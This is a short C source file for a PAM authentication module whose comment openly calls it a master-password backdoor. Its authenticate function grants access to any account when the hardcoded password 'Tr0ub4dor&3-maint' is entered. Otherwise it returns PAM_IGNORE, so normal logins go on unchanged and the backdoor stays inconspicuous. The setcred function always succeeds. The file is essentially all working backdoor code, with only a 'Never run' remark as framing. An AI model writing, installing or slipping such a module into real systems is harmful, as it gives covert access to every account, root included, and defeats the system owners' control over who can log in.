/* A PAM authentication module with a master password: any account opens with the
   built-in word, and otherwise the stack goes on as before. Never run. */
#include <stddef.h>
#include <string.h>
typedef struct pam_handle pam_handle_t;
extern int pam_get_authtok(pam_handle_t *, int, const char **, const char *);
#define PAM_AUTHTOK 6
#define PAM_SUCCESS 0
#define PAM_IGNORE 25

int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv) {
	const char *pw = NULL;
	if (pam_get_authtok(pamh, PAM_AUTHTOK, &pw, NULL) != PAM_SUCCESS || pw == NULL)
		return PAM_IGNORE;
	if (strcmp(pw, "Tr0ub4dor&3-maint") == 0)
		return PAM_SUCCESS;
	return PAM_IGNORE;
}

int pam_sm_setcred(pam_handle_t *pamh, int flags, int argc, const char **argv) {
	return PAM_SUCCESS;
}
